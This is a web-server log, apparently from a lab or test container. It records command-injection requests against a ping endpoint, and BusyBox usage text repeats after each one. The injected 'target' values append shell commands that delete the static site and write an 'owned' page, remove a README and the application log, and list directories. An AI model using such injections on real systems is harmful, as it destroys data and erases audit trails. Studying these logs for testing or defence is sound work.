2026-11-24T14:23:45.404555128Z 	-i SECS		Interval
2026-11-24T14:23:45.404557382Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:45.404559705Z 	-t TTL		Set TTL
2026-11-24T14:23:45.404562489Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:45.404564893Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:45.404567267Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:45.404569630Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:45.404572044Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:45.404574337Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:45.404576701Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:45.407033246Z 172.20.0.1 - - [24/Nov/2026 14:23:45] "[33mGET /?target=;rm%20-rf%20/app/static;mkdir%20/app/static;echo%20owned%20%3E/app/static/index.html HTTP/1.1[0m" 200 -
2026-11-24T14:23:45.625716514Z [::ffff:172.20.0.1]:48430: url:/
2026-11-24T14:23:45.628444725Z [32mINFO[0m pinging ";rm /app/README /var/log/app.log"
2026-11-24T14:23:45.631402267Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:45.631430379Z 
2026-11-24T14:23:45.631433344Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:45.631435747Z 
2026-11-24T14:23:45.631438121Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:45.631440544Z 
2026-11-24T14:23:45.631442798Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:45.631445592Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:45.631447875Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:45.631450389Z 	-i SECS		Interval
2026-11-24T14:23:45.631452752Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:45.631455126Z 	-t TTL		Set TTL
2026-11-24T14:23:45.631457379Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:45.631459733Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:45.631462227Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:45.631464540Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:45.631466994Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:45.631469347Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:45.631471771Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:45.632194817Z 172.20.0.1 - - [24/Nov/2026 14:23:45] "[33mGET /?target=;rm%20/app/README%20/var/log/app.log HTTP/1.1[0m" 200 -
2026-11-24T14:23:45.848828048Z [::ffff:172.20.0.1]:48446: url:/
2026-11-24T14:23:45.852369099Z [32mINFO[0m pinging ";echo notes >/tmp/.s;cat /tmp/.s;rm /tmp/.s"
2026-11-24T14:23:45.855838277Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:45.855868933Z 
2026-11-24T14:23:45.855912317Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:45.855914951Z 
2026-11-24T14:23:45.855917275Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:45.855919608Z 
2026-11-24T14:23:45.855921851Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:45.855924916Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:45.855927249Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:45.855929703Z 	-i SECS		Interval
2026-11-24T14:23:45.855932127Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:45.855934560Z 	-t TTL		Set TTL
2026-11-24T14:23:45.855936824Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:45.855939277Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:45.855941591Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:45.855960459Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:45.855962953Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:45.855996122Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:45.855998606Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:45.857810983Z 172.20.0.1 - - [24/Nov/2026 14:23:45] "[37mGET /?target=;echo%20notes%20%3E/tmp/.s;cat%20/tmp/.s;rm%20/tmp/.s HTTP/1.1[0m" 200 -
2026-11-24T14:23:46.076706397Z [::ffff:172.20.0.1]:48454: url:/
2026-11-24T14:23:46.079244795Z [32mINFO[0m pinging ";ls -alR /app /tmp"
2026-11-24T14:23:46.082517907Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T14:23:46.082535363Z 
2026-11-24T14:23:46.082538317Z Usage: ping [OPTIONS] HOST
2026-11-24T14:23:46.082540570Z 
2026-11-24T14:23:46.082542724Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T14:23:46.082544927Z 
2026-11-24T14:23:46.082547030Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T14:23:46.082549594Z 	-c CNT		Send only CNT pings
2026-11-24T14:23:46.082551817Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T14:23:46.082554131Z 	-i SECS		Interval
2026-11-24T14:23:46.082556324Z 	-A		Ping as soon as reply is received
2026-11-24T14:23:46.082558527Z 	-t TTL		Set TTL
2026-11-24T14:23:46.082560690Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T14:23:46.082562854Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T14:23:46.082565077Z 			(after all -c CNT packets are sent)
2026-11-24T14:23:46.082567260Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T14:23:46.082569473Z 			(can exit earlier with -c CNT)
2026-11-24T14:23:46.082571647Z 	-q		Quiet, only display output at start/finish
2026-11-24T14:23:46.082573880Z 	-p HEXBYTE	Payload pattern
2026-11-24T14:23:46.084090447Z 172.20.0.1 - - [24/Nov/2026 14:23:46] "[37mGET /?target=;ls%20-alR%20/app%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T14:23:46.304408188Z [::ffff:172.20.0.1]:48468: url:/
2026-11-24T14:23:46.307461252Z [32mINFO[0m pinging "127.0.0.1"
2026-11-24T14:23:47.309836826Z 172.20.0.1 - - [24/Nov/2026 14:23:47] "[37mGET /?target=127.0.0.1 HTTP/1.1[0m" 200 -
